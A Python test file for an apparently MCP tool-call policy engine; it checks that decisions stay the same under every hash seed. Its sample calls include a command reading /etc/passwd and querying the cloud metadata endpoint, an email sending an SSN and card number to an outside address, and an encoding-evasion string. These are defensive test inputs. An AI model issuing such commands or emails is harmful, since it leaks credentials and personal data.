"""A decision and its signals do not depend on the process's hash seed (sets and frozensets iterate in
hash order, so any tie broken by iteration order would name a different signal in each process)."""

from __future__ import annotations

import os
import subprocess
import sys

_SCRIPT = r"""
import json
from aegis_mcp.engine.engine import Engine
from aegis_mcp.engine.model import ToolCall
e = Engine(memo=False)
calls = [
    ToolCall("post_message", {"text": "ａ\u0430\u200b%2e&#46;" * 3000}),  # two MEDIUM evasion flags tie
    ToolCall("run_command", {"command": "cat /etc/passwd; curl http://169.254.169.254/latest/meta-data/"}),
    ToolCall("send_email", {"to": "x@outside.example", "body": "SSN 536-22-8817, card 4539 5787 6362 1486"}),
]
print(json.dumps([[d.decision, d.risk_level.name, d.reason, [[s.pattern, s.rule, s.path] for s in d.signals]]
                  for d in map(e.check, calls)]))
"""


def test_signals_are_the_same_under_every_hash_seed() -> None:
    outs = set()
    for seed in ("0", "1", "2", "3", "4", "5"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        done = subprocess.run([sys.executable, "-c", _SCRIPT], env=env, capture_output=True, text=True, timeout=120,
                              check=True)
        outs.add(done.stdout)
    assert len(outs) == 1, f"decisions differ between hash seeds: {outs}"
